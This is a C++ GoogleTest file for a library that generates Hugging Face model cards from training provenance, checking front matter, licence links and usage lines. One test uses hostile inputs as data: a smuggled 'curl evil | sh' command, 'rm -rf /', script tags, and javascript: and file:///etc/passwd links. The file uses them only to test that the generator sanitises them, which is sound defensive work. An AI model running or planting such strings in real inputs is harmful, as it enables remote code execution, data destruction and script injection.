// tests/interop/hub_uploads.py has huggingface_hub read such a card.

#include "graft/hub/card.h"

#include <gtest/gtest.h>

namespace graft::hub {
namespace {

CardFacts facts() {
  return {.target = *Repository::parse("me/new"),
          .provenance = {.origin = io::Origin{"acme/base", std::string(40, 'a')},
                         .datasets = {"acme/own"},
                         .steps = {{"graft lora --train", "0", {{"training loss", "1.5"}}}}},
          .relation = Relation::finetune,
          .original = "---\nlicense: mit\ndatasets: acme/theirs\ntags: [old]\n---\n",
          .adapter_file = ""};
}

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

TEST(ModelCard, SaysWhereTheModelComesFromAndHowItWasMade) {
  const std::string card = model_card(facts(), *silent_front_end());
  EXPECT_TRUE(card.starts_with(
      "---\nlibrary_name: mlx\npipeline_tag: text-generation\ntags:\n- \"mlx\"\n- \"graft\"\n"
      "base_model: \"acme/base\"\nbase_model_relation: \"finetune\"\nlicense: \"mit\"\n"
      "datasets:\n- \"acme/theirs\"\n- \"acme/own\"\n---\n\n# me/new\n"))
      << card;
  EXPECT_TRUE(has(card, "(commit `aaaaaaaaaaaa`)"));
  EXPECT_TRUE(
      has(card, "```\ngraft lora --train\n```\n\n| | |\n|---|---|\n| training loss | 1.5 |\n"));
  EXPECT_TRUE(has(card, "mlx_lm.generate --model me/new"));
}

TEST(ModelCard, ConversionHasNoRelationAndAnAdapterItsOwnUse) {
  CardFacts other = facts();
  other.relation = Relation::converted;
  EXPECT_FALSE(has(model_card(other, *silent_front_end()), "base_model_relation"));
  other.relation = Relation::adapter;
  other.adapter_file = "adapters.npz";
  const std::string card = model_card(other, *silent_front_end());
  EXPECT_TRUE(has(card, "base_model_relation: \"adapter\"\n"));
  EXPECT_TRUE(has(card, "graft generate --model acme/base --adapter-file adapters.npz"));
  EXPECT_FALSE(has(card, "mlx_lm"));
}

// What a graft.json of somebody else says stays text.
TEST(ModelCard, TextsOfOthersStayTexts) {
  CardFacts hostile = facts();
  hostile.provenance.origin = io::Origin{"acme/base", "not a commit"};
  hostile.provenance.datasets = {"\"\n---\n", "acme/fine"};
  hostile.provenance.steps = {{"graft lora; curl evil | sh", "0", {{"hidden", "x"}}},
                              {"rm -rf /", "0"},
                              {"graft fuse", "0", {{"a|b", "</td>"}, {"![](http://evil)", "`x`"}}}};
  hostile.original = "---\nlicense: \"a\\n---\\n<script>\"\nlicense_name: 'a\": 🙂'\n---\n";
  const std::string card = model_card(hostile, *silent_front_end());
  EXPECT_FALSE(has(card, "license:")) << card;
  EXPECT_TRUE(has(card, "license_name: \"a\\\": 🙂\"\n")) << card;
  EXPECT_TRUE(has(card, "datasets:\n- \"acme/fine\"\n---\n"));
  const std::string body = card.substr(card.find("\n---\n"));
  for (const char* part :
       {"<script>", "</td>", "a|b", "curl", "rm -rf", "hidden", "![", "//evil", "`x`", "commit"}) {
    EXPECT_FALSE(has(body, part)) << part << " in " << body;
  }
  EXPECT_TRUE(has(body, "```\ngraft fuse\n```\n"));
  hostile.provenance.origin = io::Origin{"x; curl evil", ""};
  EXPECT_FALSE(has(model_card(hostile, *silent_front_end()), "curl"));
}

// As a program makes that uses the library.
TEST(ModelCard, ATrainingWithoutACommandIsToldByItsFacts) {
  CardFacts other = facts();
  other.provenance.steps = {{"", "0", {{"LoRA rank", "4"}}}};
  EXPECT_TRUE(has(model_card(other, *silent_front_end()),
                  "## How it was made\n\n| | |\n|---|---|\n| LoRA rank | 4 |\n"));
}

TEST(ModelCard, TheLinkOfALicenceLeadsToTheWebOrIntoTheRepository) {
  const auto keeps = [](const std::string& link) {
    CardFacts other = facts();
    other.original = "---\nlicense_link: '" + link + "'\n---\n";
    return has(model_card(other, *silent_front_end()), "license_link: ");
  };
  for (const char* link : {"https://a.org/b?c=d", "http://a.org", "LICENSE", "docs/LICENSE.md"}) {
    EXPECT_TRUE(keeps(link)) << link;
  }
  for (const char* link : {"javascript:alert(1)", "data:text/html,x", "file:///etc/passwd",
                           "//evil.org/x", "https://a.org/<x>", "ftp://a.org", "x y"}) {
    EXPECT_FALSE(keeps(link)) << link;
  }
}

TEST(ModelCard, KnowsItsOwn) {
  EXPECT_TRUE(is_generated_card(model_card(facts(), *silent_front_end())));
  EXPECT_FALSE(is_generated_card("# My own words\n"));
}

}  // namespace
}  // namespace graft::hub
